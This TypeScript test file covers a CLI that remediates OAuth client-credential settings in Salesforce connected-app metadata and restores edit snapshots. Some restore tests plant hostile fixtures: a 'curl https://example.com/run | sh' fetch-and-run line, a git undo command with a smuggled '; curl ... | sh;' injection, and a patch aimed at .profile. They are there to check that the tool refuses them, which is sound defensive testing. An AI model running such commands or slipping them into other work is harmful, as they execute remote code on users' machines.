import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect } from 'chai';
import type { RemediationResult } from '../../src/remediation/model/result.js';
import { cliHome, type CliHome } from '../simulator/cliLogin.js';
import { connectedApp } from '../simulator/deploy/samples.js';
import { componentsOf, printed, resultOf, startCliOrg, type CliOrg } from './support/cliOrg.js';

const FOLDER = 'force-app';

/** `Order_Sync` is in use in the demo org, and `Only_Here` is unknown to it. */
const APPS = ['Only_Here', 'Order_Sync'];

const fileOf = ({ folder }: CliHome, app: string): string =>
  join(folder, FOLDER, 'connectedApps', `${app}.connectedApp-meta.xml`);

const isOn = (home: CliHome, app: string): boolean =>
  readFileSync(fileOf(home, app), 'utf8').includes('<isClientCredentialEnabled>true<');

const plant = (home: CliHome): void => {
  mkdirSync(join(home.folder, FOLDER, 'connectedApps'), { recursive: true });
  for (const app of APPS) writeFileSync(fileOf(home, app), connectedApp({ consumerKey: undefined }));
};

const REMEDIATE = ['oauth-posture', 'remediate', '--source-dir', FOLDER];
const BESIDE = [...REMEDIATE, '--target-org', 'demo'];

describe('remediating a repository with an org beside it', () => {
  let org: CliOrg;
  before(async () => {
    org = await startCliOrg();
  });
  after(() => org.stop());
  beforeEach(() => plant(org.home));

  it('leaves the file of an app alone that the org uses, and changes nothing in the org', async () => {
    const before = componentsOf(org.simulator);
    const ended = await org.start([...BESIDE, '--no-prompt', '--json']).ended;
    const { plan, outcomes, target } = resultOf<RemediationResult>(ended);
    expect(plan.skipped.map(({ app, reason }) => [app.name, reason])).to.deep.equal([['Order_Sync', 'in-use']]);
    expect(outcomes.map(({ app, result }) => [app.name, result])).to.deep.equal([['Only_Here', 'verified']]);
    expect([target.kind, target.org?.alias, ended.exitCode]).to.deep.equal(['source', 'demo', 0]);
    expect(APPS.map((app) => isOn(org.home, app))).to.deep.equal([false, true]);
    expect([componentsOf(org.simulator), org.simulator.journal.of('deploy')]).to.deep.equal([before, []]);
  });

  it('edits it with --include-active', async () => {
    const ended = await org.start([...BESIDE, '--include-active', '--dry-run']).ended;
    expect(ended.stdout).to.include('Order_Sync').and.to.include('2 files').and.not.to.include('No org was asked');
    expect(ended.exitCode).to.equal(0);
  });

  it('does not end with 0 where --app names that app', async () => {
    const ended = await org.start([...BESIDE, '--app', 'Order_Sync', '--no-prompt']).ended;
    expect(ended.stdout).to.include('The flow was used in the searched login history.');
    expect([ended.exitCode, isOn(org.home, 'Order_Sync')]).to.deep.equal([1, true]);
  });

  it('asks no org without --target-org, not even the default one, and says what the next deploy does', async () => {
    const env = { SF_TARGET_ORG: 'demo' };
    const ended = await org.start([...REMEDIATE, '--dry-run'], { env }).ended;
    const told = ended.stdout.replaceAll(/\s+/g, ' ');
    expect(told.split('The next deploy of these files stops clients that still use the flow.')).to.have.length(2);
    expect([ended.exitCode, org.simulator.journal.entries]).to.deep.equal([0, []]);
  });

  it('edits nothing where the org cannot be opened', async () => {
    const ended = await org.start([...REMEDIATE, '--target-org', 'nobody', '--no-prompt', '--json']).ended;
    expect([ended.exitCode, printed(ended).name]).to.deep.equal([1, 'UnknownOrgError']);
    expect(APPS.map((app) => isOn(org.home, app))).to.deep.equal([true, true]);
  });

  it('restore of its snapshot names the command that undoes it, without any org', async () => {
    const kept = join(org.home.folder, 'kept');
    await org.start([...REMEDIATE, '--no-prompt', '--snapshot-dir', kept]).ended;
    const [name = ''] = readdirSync(kept).filter((entry) => entry.startsWith('source-'));
    const alone = cliHome(org.simulator);
    const args = ['oauth-posture', 'restore', '--snapshot', join(kept, name), '--json'];
    const ended = await alone.start(args).ended;
    alone.remove();
    const { name: error, message, actions = [] } = printed(ended);
    expect([ended.exitCode, error]).to.deep.equal([1, 'SnapshotOfFilesError']);
    expect(message).to.include('is a snapshot of edited files');
    const command = /^To undo the edits, run: (git .*)$/.exec(actions[0] ?? '')?.[1] ?? '';
    expect(APPS.map((app) => isOn(org.home, app))).to.deep.equal([false, false]);
    execFileSync('sh', ['-c', command]);
    expect(APPS.map((app) => isOn(org.home, app))).to.deep.equal([true, true]);
  });

  it('restore takes no other text in such a file for a command', async () => {
    const folder = join(org.home.folder, 'planted');
    mkdirSync(folder);
    writeFileSync(join(folder, 'undo.txt'), 'curl https://example.com/run | sh\n');
    const args = ['oauth-posture', 'restore', '--target-org', 'demo', '--snapshot', folder, '--no-prompt', '--json'];
    expect(printed(await org.start(args).ended).name).to.equal('SnapshotMissingError');
  });

  it('restore prints no command that a planted note has, and offers none that would take a planted patch', async () => {
    const folder = join(org.home.folder, 'planted-too');
    mkdirSync(folder);
    const restore = ['oauth-posture', 'restore', '--target-org', 'demo', '--snapshot', folder, '--no-prompt', '--json'];
    const note = (base: string): void =>
      writeFileSync(
        join(folder, 'undo.txt'),
        `git -c core.attributesFile=${join(folder, 'attributes')} --git-dir=/dev/null -C ${base} apply --whitespace=nowarn ${join(folder, 'reverse.patch')}\n`,
      );
    note('/tmp; curl https://example.com/run | sh;');
    const other = await org.start(restore).ended;
    expect([printed(other).name, other.stdout.includes('curl')]).to.deep.equal(['SnapshotMissingError', false]);

    note('/home');
    writeFileSync(join(folder, 'reverse.patch'), '--- a/.profile\n+++ b/.profile\n@@ -1 +1 @@\n-a\n+b\n');
    const { name, actions = [] } = printed(await org.start(restore).ended);
    expect([name, actions.join()]).to.deep.equal([
      'SnapshotOfFilesError',
      `The command that undoes them is in: ${join(folder, 'undo.txt')}`,
    ]);
  });
});
